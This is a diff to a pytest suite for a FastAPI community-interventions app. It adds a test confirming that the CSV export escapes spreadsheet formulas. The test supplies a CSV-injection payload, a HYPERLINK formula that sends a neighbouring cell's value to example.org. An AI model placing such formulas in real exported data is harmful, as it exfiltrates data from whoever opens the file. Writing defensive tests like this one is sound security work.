@@ -4,6 +4,9 @@ The library entries and experts are hand-made test examples."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import duckdb
 import pytest
 from fastapi import FastAPI
@@ -261,3 +264,16 @@ def test_learning_network_sessions_link_the_entries_they_discussed(app: FastAPI)
     assert len(admin.get("/api/wijkwijzer/sessions", params={"intervention": entry["id"]}).json()) == 2
     page = public.get(f"/wijkwijzer/{entry['id']}")
     assert "2026-10-01: Gepubliceerd (Gemeente Rotterdam)" in page.text
+
+
+def test_the_csv_export_neutralises_formulas(app: FastAPI) -> None:
+    admin = login(app, "administrator")
+    formula = '=HYPERLINK("https://example.org/?q="&B2,"Lees meer")'
+    made = admin.post(
+        "/api/wijkwijzer/interventions", json={**ENTRY, "title": formula, "summary": "-5 jongeren"}
+    )
+    assert made.status_code == 201, made.text
+    exported = TestClient(app).get("/wijkwijzer/export.csv").text
+    [row] = [row for row in csv.DictReader(io.StringIO(exported)) if row["id"] == str(made.json()["id"])]
+    assert row["title"] == "'" + formula and row["summary"] == "'-5 jongeren"
+    assert not any(cell.startswith("=") for line in csv.reader(io.StringIO(exported)) for cell in line)
